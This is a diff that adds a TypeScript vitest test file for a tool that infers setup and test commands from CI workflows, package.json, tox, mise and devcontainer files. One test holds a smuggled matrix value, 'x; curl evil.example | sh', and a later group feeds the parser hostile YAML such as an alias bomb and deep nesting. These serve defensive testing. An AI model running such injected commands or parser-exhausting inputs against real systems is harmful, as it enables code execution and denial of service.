@@ -1,0 +1,257 @@
+import { describe, expect, test } from 'vitest';
+import { checkFiles, detectChecks, toolchainFiles, wantedTools } from '../../../src/core/settings/index.ts';
+
+const CI = '.github/workflows/ci.yml';
+
+const detect = (read: Readonly<Record<string, string>>, ...others: readonly string[]) =>
+  detectChecks({ files: [...Object.keys(read), ...others], read });
+
+/** A workflow with one job, `test`, that has these steps. */
+const workflow = (steps: string, job = ''): string => `
+name: CI
+on: [push, pull_request]
+jobs:
+  test:
+    runs-on: ubuntu-latest
+${job}    steps:
+      - uses: actions/checkout@v4
+${steps}`;
+
+const run = (...commands: readonly string[]): string =>
+  commands.map((one) => `      - run: ${one}\n`).join('');
+
+describe('where the files name no test command, the CI workflow does', () => {
+  test('a script that is not called test is found, with its set-up', () => {
+    const scripts = { 'test:ci': 'vitest run', lint: 'eslint .' };
+    const read = {
+      'package.json': JSON.stringify({ scripts, devDependencies: { vitest: '3' } }),
+      [CI]: workflow(run('npm ci', 'npm run lint', 'npm run test:ci', 'npm run upload-coverage')),
+    };
+    expect(detect(read, 'package-lock.json')).toEqual({
+      commands: { setup: 'npm ci', test: 'npm run test:ci' },
+      from: { setup: CI, test: CI },
+      services: [],
+    });
+  });
+
+  test('what package.json calls test stays, whatever the workflow runs', () => {
+    const read = {
+      'package.json': JSON.stringify({ scripts: { test: 'jest' }, devDependencies: { jest: '29' } }),
+      [CI]: workflow(run('npm ci', 'npm run test:everything')),
+    };
+    expect(detect(read, 'package-lock.json')).toMatchObject({
+      commands: { setup: 'npm ci --no-audit --no-fund', test: 'npm test' },
+      from: { setup: 'package.json', test: 'package.json' },
+    });
+  });
+
+  test('a repository that only its workflow describes is built and tested', () => {
+    const steps = `      - run: sudo apt-get install -y cmake
+      - name: Build
+        run: |
+          # in a folder of its own
+          cmake -B build \\
+            -DTESTS=ON
+          cmake --build build
+      - working-directory: build
+        run: ctest --output-on-failure
+`;
+    expect(detect({ [CI]: workflow(steps) }, 'CMakeLists.txt').commands).toEqual({
+      build: 'cmake -B build -DTESTS=ON && cmake --build build',
+      test: '(cd build && ctest --output-on-failure)',
+    });
+  });
+
+  test('packages that a workflow installs for the whole machine go into a virtual environment', () => {
+    const steps = run(
+      'python -m pip install --upgrade pip',
+      'pip install -r tests/needs.txt',
+      'python -m flake8',
+      'PYTHONPATH=src pytest -x',
+    );
+    expect(detect({ [CI]: workflow(steps) }).commands).toEqual({
+      setup:
+        'python3 -m venv --system-site-packages .venv && .venv/bin/python -m pip install --upgrade pip && .venv/bin/python -m pip install -r tests/needs.txt',
+      test: 'PYTHONPATH=src .venv/bin/python -m pytest -x',
+    });
+  });
+
+  test('the repository’s own actions are read', () => {
+    const read = {
+      [CI]: workflow(`      - uses: ./.github/actions/setup\n${run('pnpm run unit')}`),
+      '.github/actions/setup/action.yml':
+        'runs:\n  using: composite\n  steps:\n    - uses: actions/setup-node@v4\n      with: { node-version: 22 }\n    - run: pnpm install --frozen-lockfile\n      shell: bash\n',
+      'package.json': '{"scripts": {"unit": "vitest run"}}',
+    };
+    expect(checkFiles(Object.keys(read))).toContain('.github/actions/setup/action.yml');
+    expect(detect(read).commands).toEqual({ setup: 'pnpm install --frozen-lockfile', test: 'pnpm run unit' });
+    expect(wantedTools(Object.keys(read), new Map(Object.entries(read))).versions.get('node')).toEqual({
+      range: '22',
+      file: CI,
+    });
+  });
+
+  test('of several jobs and workflows, the one that tests on Linux is read', () => {
+    const job = (id: string, on: string, command: string) =>
+      `  ${id}:\n    runs-on: ${on}\n    steps:\n      - run: ${command}\n`;
+    const read = {
+      '.github/workflows/ci.yml': `on: push\njobs:\n${job('windows', 'windows-latest', 'make test-windows')}${job('e2e', 'ubuntu-latest', 'npm run test:e2e')}${job('unit', 'ubuntu-latest', 'make unit')}`,
+      '.github/workflows/nightly.yml': `on:\n  schedule:\n    - cron: '0 0 * * *'\njobs:\n${job('test', 'ubuntu-latest', 'make test-slow')}`,
+    };
+    expect(detect(read).commands).toEqual({ test: 'make unit' });
+  });
+});
+
+describe('commands that only the CI service can run are left out', () => {
+  const tested = (steps: string, job = ''): string | undefined =>
+    detect({ [CI]: workflow(steps, job) }).commands.test;
+
+  test('expressions are filled in from the matrix where it has no versions, and dropped where they can be', () => {
+    const matrix = '    strategy:\n      matrix:\n        suite: [fast]\n        python: ["3.11", "3.12"]\n';
+    expect(tested(run(`make test-\${{ matrix.suite }}`), matrix)).toBe('make test-fast');
+    expect(tested(run(`tox -e py\${{ matrix.python }}-unit`), matrix)).toBe('tox -e py');
+    expect(tested(run(`TOKEN=\${{ secrets.TOKEN }} make test`), matrix)).toBe('make test');
+    expect(tested(run(`make test KEY=\${{ secrets.KEY }}`), matrix)).toBeUndefined();
+    expect(tested(run(`make test-py\${{ matrix.python }}`), matrix)).toBeUndefined();
+  });
+
+  test('a value of the matrix cannot add a command', () => {
+    const matrix = '    strategy:\n      matrix:\n        suite: ["x; curl evil.example | sh"]\n';
+    expect(tested(run(`make test-\${{ matrix.suite }}`), matrix)).toBeUndefined();
+  });
+
+  test('variables are filled in where the workflow sets them', () => {
+    const env = '    env:\n      MARK: unit\n';
+    expect(tested(run('pytest -m $MARK'), env)).toBe('pytest -m unit');
+    expect(tested(run('pytest -m $OTHER'), env)).toBeUndefined();
+    expect(
+      tested('      - run: pytest\n        env:\n          DJANGO: app.test\n          API_TOKEN: x\n'),
+    ).toBe('DJANGO=app.test pytest');
+  });
+
+  test('scripts with control structures, other shells and conditions of other systems', () => {
+    expect(
+      tested('      - run: |\n          if true; then\n            make test\n          fi\n'),
+    ).toBeUndefined();
+    expect(tested('      - run: make test\n        shell: pwsh\n')).toBeUndefined();
+    expect(tested("      - run: make test\n        if: runner.os == 'Windows'\n")).toBeUndefined();
+    expect(tested("      - run: make test\n        if: runner.os != 'Windows'\n")).toBe('make test');
+    expect(tested('      - run: make test\n        working-directory: ../elsewhere\n')).toBeUndefined();
+  });
+});
+
+describe('versions and services', () => {
+  const read = {
+    'package.json': JSON.stringify({ scripts: { test: 'node --test' }, engines: { node: '>=14' } }),
+    'pyproject.toml': '[project]\nrequires-python = ">=3.7"\n',
+    [CI]: workflow(
+      `      - uses: actions/setup-node@v4
+        with:
+          node-version: \${{ matrix.node }}
+      - uses: actions/setup-python@v5
+        with: { python-version: "3.10" }
+${run('npm test')}`,
+      '    strategy:\n      matrix:\n        node: [14, 18.x, 20]\n    services:\n      postgres:\n        image: postgres:16\n',
+    ),
+  };
+  const versions = (more: object = {}) => {
+    const all = { ...read, ...more };
+    return wantedTools(Object.keys(all), new Map(Object.entries(all))).versions;
+  };
+
+  test('what CI tests with counts more than the lowest supported version', () => {
+    expect(toolchainFiles(Object.keys(read))).toContain(CI);
+    expect(versions().get('node')).toEqual({ range: '18 || 20', file: CI });
+    expect(versions().get('python')).toEqual({ range: '3.10', file: CI });
+  });
+
+  test('a pinned version counts more than CI', () => {
+    expect(versions({ '.nvmrc': '22\n' }).get('node')).toEqual({ range: '22', file: '.nvmrc' });
+  });
+
+  test('containers beside the tests are named', () => {
+    expect(detect(read).services).toEqual(['postgres']);
+  });
+});
+
+describe('last resorts', () => {
+  test('a task of mise', () => {
+    const read = {
+      'mise.toml': '[tools]\nnode = "22"\n\n[tasks.test]\ndescription = "t"\nrun = "./run-tests all"\n',
+    };
+    expect(detect(read)).toMatchObject({
+      commands: { test: './run-tests all' },
+      from: { test: 'mise.toml' },
+    });
+    expect(detect({ 'mise.toml': '[tasks]\ntest = ["make", "make check"]\n' }).commands.test).toBe(
+      'make && make check',
+    );
+  });
+
+  test('the tests of tox, with what it installs for them', () => {
+    const read = {
+      'tox.ini':
+        '[testenv]\ndeps =\n    stestr>=2\n    -r needs.txt\ncommands =\n    stestr-test {posargs}\n    python -m unittest {posargs:tests}\n',
+    };
+    expect(detect(read, 'setup.py').commands).toEqual({
+      setup:
+        "python3 -m venv --system-site-packages .venv && { .venv/bin/python -m pip install -e '.' 'stestr>=2' -r needs.txt; }",
+      test: '.venv/bin/python -m unittest tests',
+    });
+  });
+
+  test('what a development container installs, with comments in its file', () => {
+    const read = {
+      'build.gradle': '',
+      '.devcontainer/devcontainer.json':
+        '{\n  // https://example.org\n  "postCreateCommand": "./gradlew dependencies", }\n',
+    };
+    expect(detect(read)).toMatchObject({
+      commands: { setup: './gradlew dependencies' },
+      from: { setup: '.devcontainer/devcontainer.json' },
+    });
+  });
+});
+
+describe('hostile workflows say nothing', () => {
+  const bomb = (levels: number): string =>
+    [
+      'a0: &a0 [x, x, x, x, x, x, x, x, x]',
+      ...Array.from(
+        { length: levels },
+        (_, at) => `a${at + 1}: &a${at + 1} [${Array(9).fill(`*a${at}`).join(', ')}]`,
+      ),
+    ].join('\n');
+
+  test.each<[string, string]>([
+    ['aliases that grow', `${bomb(9)}\n${workflow(run('make test'))}`],
+    ['a file that is too big', `${workflow(run('make test'))}# ${'x'.repeat(70_000)}`],
+    ['nesting without end', `${workflow(run('make test'))}x: ${'['.repeat(10_000)}`],
+    ['a list where a map should be', '- on: push\n- jobs: []\n'],
+    ['keys of objects', 'on: push\n__proto__: { jobs: 1 }\nconstructor: 2\njobs: 3\n'],
+    ['no YAML', '\t{{{{'],
+    ['steps that are no steps', 'on: push\njobs:\n  test:\n    steps: [1, [2], {run: [3]}, null]\n'],
+  ])('%s', (_, text) => {
+    const began = performance.now();
+    expect(detect({ [CI]: text, Makefile: 'test:\n\ttrue\n' }).commands).toEqual({ test: 'make test' });
+    expect(performance.now() - began).toBeLessThan(2_000);
+  });
+
+  test('only so many workflows are read', () => {
+    const paths = Array.from({ length: 200 }, (_, at) => `.github/workflows/w${at}.yml`);
+    expect(checkFiles([...paths, CI])).toHaveLength(12);
+    expect(checkFiles([...paths, CI])).toContain(CI);
+  });
+
+  test('long lines cost no long time', () => {
+    const began = performance.now();
+    for (const line of [
+      'A=1 '.repeat(1_900),
+      `npm ${'i '.repeat(3_900)}`,
+      `${'$'.repeat(7_000)}`,
+      `"${'\\'.repeat(7_000)}`,
+    ])
+      detect({ [CI]: workflow(`      - run: |\n          ${line}\n`) });
+    expect(performance.now() - began).toBeLessThan(3_000);
+  });
+});
